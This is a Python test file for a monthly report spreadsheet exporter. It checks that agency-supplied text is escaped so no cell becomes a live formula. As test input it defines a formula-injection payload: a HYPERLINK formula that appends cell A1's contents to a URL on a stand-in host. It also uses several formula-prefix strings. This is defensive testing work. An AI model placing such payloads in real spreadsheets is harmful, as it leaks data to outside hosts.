"""No text of an agency is a formula in the monthly workbook, in whatever sheet and column it stands."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import openpyxl

from hub.reports.monthly_report_xlsx import write

EVIL = '=HYPERLINK("http://x/?"&A1,"bấm")'
COUNT: dict[str, Any] = {"count": 1, "dossiers": ["=1+1"]}


def agency() -> dict[str, Any]:
    keys = ("received", "on_time", "late", "no_deadline", "withdrawn", "pending", "pending_overdue", "online")
    item = {"item": "@1", "name": EVIL, "formula": EVIL, "written": EVIL, "counted": COUNT, "total": COUNT, "value": -1,
            "full_at": 2, "worth": 3, "why_not": EVIL, "evidence": "+x"}  # fmt: skip
    return {
        "agency": EVIL,
        "name": EVIL,
        "present_office": {"name": EVIL},
        "figures": dict.fromkeys(keys, COUNT),
        "mean_processing_hours": -2.5,
        "publication": {"procedures": COUNT, "complete": COUNT},
        "score": {
            "total": 1,
            "band": EVIL,
            "groups": [{"group": "-x", "name": EVIL, "points": 1, "of": 2, "items": [item]}],
        },
        "online": {"by_level": {EVIL: {"received": COUNT, "online": COUNT, "share": 0.5}}, "by_kind": {}},
    }


def test_no_cell_is_a_formula(tmp_path: Path) -> None:
    report = {"month": "2026-11", "complete": True, "made_at": "x", "agencies": [agency()], "province": agency()}
    write(report, tmp_path / "report.xlsx")
    cells = [c for sheet in openpyxl.load_workbook(tmp_path / "report.xlsx") for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@"))]
    assert texts.count("'" + EVIL) >= 8
    assert {-1, -2.5} <= {c.value for c in cells if not isinstance(c.value, str)}
